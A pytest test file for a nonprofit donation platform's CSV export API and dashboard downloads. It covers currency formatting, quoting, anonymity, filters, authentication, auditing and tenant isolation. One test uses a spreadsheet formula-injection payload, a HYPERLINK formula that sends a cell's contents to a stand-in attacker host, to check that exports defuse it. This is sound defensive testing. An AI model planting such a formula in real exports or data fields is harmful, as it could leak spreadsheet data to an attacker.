"""Nonprofits download their own donations and matches as CSV (API key or dashboard session)."""

from __future__ import annotations

import html
import re
import uuid
from dataclasses import dataclass
from datetime import timedelta

import httpx
import pytest
import sqlalchemy as sa

from campaigns.donations.models import Donation
from service.auth.models import AdminRole
from service.db import Database, utcnow
from service.settings import Settings
from tests.builders import insert_admin
from tests.campaigns.dashboard.helpers import add_member, error_code, log_in
from tests.campaigns.matching.helpers import World, give, make_program, only_match
from tests.exports.builders import Tenant, header, paid_donation, parse_csv, tenant

AWKWARD_NAME = 'Zoë "Zed" O\'Brien, Jr.\nFlat 2'
FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'


@pytest.fixture
async def org(client: httpx.AsyncClient, database: Database) -> Tenant:
    return await tenant(client, database, "jpy", "kwd", "eur")


class TestDonationsCsv:
    async def test_amounts_are_major_units_in_each_currencys_own_exponent(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        yen = await paid_donation(client, database, settings, org.campaigns["jpy"], amount_minor=5_000)
        dinar = await paid_donation(
            client, database, settings, org.campaigns["kwd"], amount_minor=12_340, fee_cover_minor=510
        )
        euro = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=2_550)

        rows = parse_csv(await client.get("/api/v1/exports/donations.csv", headers=org.org.headers))

        by_id = {row["donation_id"]: row for row in rows}
        assert (by_id[str(yen)]["amount"], by_id[str(yen)]["currency"]) == ("5000", "JPY")
        assert by_id[str(yen)]["fee_cover"] == "0"
        assert (by_id[str(dinar)]["amount"], by_id[str(dinar)]["fee_cover"]) == ("12.340", "0.510")
        assert by_id[str(dinar)]["currency"] == "KWD"
        assert (by_id[str(euro)]["amount"], by_id[str(euro)]["refunded"]) == ("25.50", "0.00")
        assert {row["status"] for row in rows} == {"confirmed"}

    async def test_text_survives_quoting_and_formulas_are_defused(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        campaign = org.campaigns["eur"]
        awkward = await paid_donation(
            client, database, settings, campaign, amount_minor=1_000, donor_name=AWKWARD_NAME
        )
        formula = await paid_donation(
            client,
            database,
            settings,
            campaign,
            amount_minor=1_000,
            donor_name=FORMULA_NAME,
            donor_email="-2+3@example.org",
        )

        rows = parse_csv(await client.get("/api/v1/exports/donations.csv", headers=org.org.headers))

        by_id = {row["donation_id"]: row for row in rows}
        assert by_id[str(awkward)]["donor_name"] == AWKWARD_NAME
        assert by_id[str(formula)]["donor_name"] == "'" + FORMULA_NAME
        assert by_id[str(formula)]["donor_email"] == "'-2+3@example.org"

    async def test_anonymous_donors_stay_anonymous(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        hidden = await paid_donation(
            client,
            database,
            settings,
            org.campaigns["eur"],
            amount_minor=1_000,
            donor_name="Quiet Giver",
            donor_email="quiet@example.org",
            anonymous=True,
        )

        response = await client.get("/api/v1/exports/donations.csv", headers=org.org.headers)

        (row,) = parse_csv(response)
        assert row["donation_id"] == str(hidden)
        assert (row["anonymous"], row["donor_name"], row["donor_email"]) == ("true", "", "")
        assert "quiet@example.org" not in response.text and "Quiet Giver" not in response.text

    async def test_dates_are_iso_8601_in_utc(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        gift = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=1_000)
        async with database.transaction() as session:
            stored = await session.get(Donation, gift)
        assert stored is not None and stored.confirmed_at is not None

        (row,) = parse_csv(await client.get("/api/v1/exports/donations.csv", headers=org.org.headers))

        assert row["created_at"] == stored.created_at.strftime("%Y-%m-%dT%H:%M:%SZ")
        assert row["confirmed_at"] == stored.confirmed_at.strftime("%Y-%m-%dT%H:%M:%SZ")

    async def test_is_an_attachment_that_is_never_cached(
        self, client: httpx.AsyncClient, org: Tenant
    ) -> None:
        response = await client.get("/api/v1/exports/donations.csv", headers=org.org.headers)

        assert response.headers["content-type"] == "text/csv; charset=utf-8"
        assert response.headers["cache-control"] == "no-store"
        disposition = response.headers["content-disposition"]
        assert disposition.startswith('attachment; filename="goodloop-donations-') and disposition.endswith(
            '.csv"'
        )
        assert header(response)[:3] == ["donation_id", "created_at", "confirmed_at"]
        assert "nonprofit" not in header(response)  # platform-side columns stay platform-side
        assert parse_csv(response) == []

    async def test_filters_narrow_the_rows(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        yen = await paid_donation(client, database, settings, org.campaigns["jpy"], amount_minor=5_000)
        euro = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=2_500)
        async with database.transaction() as session:
            await session.execute(
                sa.update(Donation).where(Donation.id == yen).values(created_at=utcnow() - timedelta(days=3))
            )
        two_days_ago = (utcnow() - timedelta(days=2)).isoformat()

        async def ids(**params: str) -> set[str]:
            response = await client.get(
                "/api/v1/exports/donations.csv", params=params, headers=org.org.headers
            )
            return {row["donation_id"] for row in parse_csv(response)}

        assert await ids() == {str(yen), str(euro)}
        assert await ids(campaign_id=str(org.campaigns["jpy"].id)) == {str(yen)}
        assert await ids(since=two_days_ago) == {str(euro)}
        assert await ids(until=two_days_ago) == {str(yen)}
        assert await ids(status="refunded") == set()

    @pytest.mark.parametrize(
        ("params", "field"),
        [
            ({"status": "paid-ish"}, "status"),
            ({"since": "last tuesday"}, "since"),
            ({"since": "1700000000"}, "since"),  # not a Unix timestamp: a date
            ({"since": "2026-11-02T00:00:00Z", "until": "2026-11-01T00:00:00Z"}, "until"),
            ({"campaign_id": "not-a-uuid"}, "campaign_id"),
            ({"nonprofit_id": str(uuid.uuid4())}, "nonprofit_id"),
        ],
    )
    async def test_a_bad_filter_is_a_422_naming_it(
        self, client: httpx.AsyncClient, org: Tenant, params: dict[str, str], field: str
    ) -> None:
        response = await client.get("/api/v1/exports/donations.csv", params=params, headers=org.org.headers)

        assert response.status_code == 422
        assert response.json()["error"] == "validation_failed"
        assert field in response.json()["fields"]

    async def test_needs_a_nonprofit_api_key(self, client: httpx.AsyncClient, org: Tenant) -> None:
        anonymous = await client.get("/api/v1/exports/donations.csv")
        admin_token = await client.get("/api/v1/exports/donations.csv", headers=org.admin.headers)

        assert anonymous.status_code == 401
        assert admin_token.status_code == 401
        assert admin_token.json()["error"] == "invalid_api_key"

    async def test_each_download_is_audited(self, client: httpx.AsyncClient, org: Tenant) -> None:
        campaign_id = str(org.campaigns["eur"].id)
        await client.get(
            "/api/v1/exports/donations.csv", params={"campaign_id": campaign_id}, headers=org.org.headers
        )

        log = await client.get(
            "/api/v1/admin/audit-log", params={"action": "export.download"}, headers=org.admin.headers
        )

        (entry,) = log.json()["data"]
        assert (entry["subject_type"], entry["subject_id"]) == ("export", "donations")
        assert entry["nonprofit_id"] == org.org.id
        assert entry["actor_type"] == "api_key"
        assert entry["after"] == {"campaign_id": campaign_id}


class TestTenantIsolation:
    async def test_another_nonprofits_rows_never_appear(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        other = await tenant(client, database, "eur")
        mine = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=1_000)
        theirs = await paid_donation(
            client, database, settings, other.campaigns["eur"], amount_minor=1_000, donor_name="Their Donor"
        )

        response = await client.get("/api/v1/exports/donations.csv", headers=org.org.headers)
        other_response = await client.get("/api/v1/exports/donations.csv", headers=other.org.headers)

        assert [row["donation_id"] for row in parse_csv(response)] == [str(mine)]
        assert str(theirs) not in response.text and "Their Donor" not in response.text
        assert other.org.id not in response.text
        assert [row["donation_id"] for row in parse_csv(other_response)] == [str(theirs)]

    async def test_another_nonprofits_campaign_in_a_filter_gets_nothing(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        other = await tenant(client, database, "eur")
        await paid_donation(client, database, settings, other.campaigns["eur"], amount_minor=1_000)
        their_campaign = str(other.campaigns["eur"].id)

        donations = await client.get(
            "/api/v1/exports/donations.csv", params={"campaign_id": their_campaign}, headers=org.org.headers
        )
        matches = await client.get(
            "/api/v1/exports/matches.csv", params={"campaign_id": their_campaign}, headers=org.org.headers
        )

        assert parse_csv(donations) == []
        assert parse_csv(matches) == []

    async def test_the_dashboard_download_is_the_members_own_organisation(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        other = await tenant(client, database, "eur")
        mine = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=1_000)
        await paid_donation(client, database, settings, other.campaigns["eur"], amount_minor=1_000)
        await log_in(client, org.org.email)

        response = await client.get("/dashboard/exports/donations.csv")
        foreign = await client.get(
            "/dashboard/exports/donations.csv", params={"campaign_id": str(other.campaigns["eur"].id)}
        )

        assert [row["donation_id"] for row in parse_csv(response)] == [str(mine)]
        assert response.headers["content-disposition"].startswith("attachment;")
        assert parse_csv(foreign) == []


class TestDashboardDownloads:
    async def test_signed_out_visitors_go_to_the_login_page(self, client: httpx.AsyncClient) -> None:
        response = await client.get("/dashboard/exports/donations.csv")

        assert response.status_code == 303
        assert response.headers["location"] == "/dashboard/login"

    async def test_a_bad_filter_is_a_400_page(self, client: httpx.AsyncClient, org: Tenant) -> None:
        await log_in(client, org.org.email)

        response = await client.get("/dashboard/exports/matches.csv", params={"status": "nope"})

        assert response.status_code == 400
        assert response.headers["content-type"].startswith("text/html")
        assert error_code(response.text) == "invalid_filter"
        assert "Status" in response.text  # the refused filter is named in the sentence

    async def test_the_home_page_links_the_downloads(self, client: httpx.AsyncClient, org: Tenant) -> None:
        await log_in(client, org.org.email)

        page = await client.get("/dashboard")

        assert 'href="/dashboard/exports/donations.csv"' in page.text
        assert 'href="/dashboard/exports/matches.csv"' in page.text
        assert 'href="/dashboard/exports/payouts.csv"' in page.text

    async def test_a_viewer_may_download_and_it_is_audited_as_that_member(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        gift = await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=1_000)
        viewer = await add_member(client, org.org, role="viewer")

        response = await client.get("/dashboard/exports/donations.csv", params={"status": "confirmed"})

        assert [row["donation_id"] for row in parse_csv(response)] == [str(gift)]
        log = await client.get(
            "/api/v1/admin/audit-log", params={"action": "export.download"}, headers=org.admin.headers
        )
        (entry,) = log.json()["data"]
        assert (entry["actor_type"], entry["actor_label"]) == ("member", viewer)
        assert entry["after"] == {"status": "confirmed"}

    async def test_the_campaign_pages_link_downloads_that_campaign_only(
        self, client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant
    ) -> None:
        yen = await paid_donation(client, database, settings, org.campaigns["jpy"], amount_minor=5_000)
        await paid_donation(client, database, settings, org.campaigns["eur"], amount_minor=1_000)
        await log_in(client, org.org.email)
        page = await client.get(f"/dashboard/campaigns/{org.campaigns['jpy'].id}")
        found = re.search(r'<a href="([^"]+)" download>Donations</a>', page.text)
        assert found is not None, page.text

        response = await client.get(html.unescape(found.group(1)))

        assert [row["donation_id"] for row in parse_csv(response)] == [str(yen)]


@dataclass(frozen=True)
class Funded:
    world: World
    tenant: Tenant


@pytest.fixture
async def funded(client: httpx.AsyncClient, database: Database, settings: Settings, org: Tenant) -> Funded:
    """The matching helpers' world around the tenant's yen campaign (so its API key is at hand)."""
    finance = await insert_admin(database, role=AdminRole.FINANCE)
    world = World(client, database, settings, finance, org.admin, org.campaigns["jpy"])
    return Funded(world, org)


class TestMatchesCsv:
    async def test_a_match_row_carries_its_program_amounts_and_reasons(self, funded: Funded) -> None:
        world = funded.world
        program_id = await make_program(world, currency="jpy", name='Winter, "double" match')
        payment = await give(world, amount_minor=2_550)
        match = await only_match(world.database, payment)

        response = await world.client.get("/api/v1/exports/matches.csv", headers=funded.tenant.org.headers)

        (row,) = parse_csv(response)
        assert row["match_id"] == str(match.id)
        assert (row["program_id"], row["program"]) == (str(program_id), 'Winter, "double" match')
        assert row["donation_id"] == payment.donation_id
        assert (row["amount"], row["original"], row["recovered"], row["currency"]) == (
            "2550",
            "2550",
            "0",
            "JPY",
        )
        assert row["status"] == match.status.value
        assert row["risk_reasons"] == "; ".join(r["code"] for r in match.risk_reasons)
        assert "new_nonprofit" in row["risk_reasons"].split("; ")
        assert "decided_by" not in row and "nonprofit" not in row

    async def test_filters_by_program_and_status(self, funded: Funded) -> None:
        world, headers = funded.world, funded.tenant.org.headers
        program_id = await make_program(world, currency="jpy")
        payment = await give(world, amount_minor=1_000)
        match = await only_match(world.database, payment)

        async def count(**params: str) -> int:
            response = await world.client.get("/api/v1/exports/matches.csv", params=params, headers=headers)
            return len(parse_csv(response))

        assert await count(program_id=str(program_id), status=match.status.value) == 1
        assert await count(program_id=str(uuid.uuid4())) == 0
        assert await count(status="paid") == 0
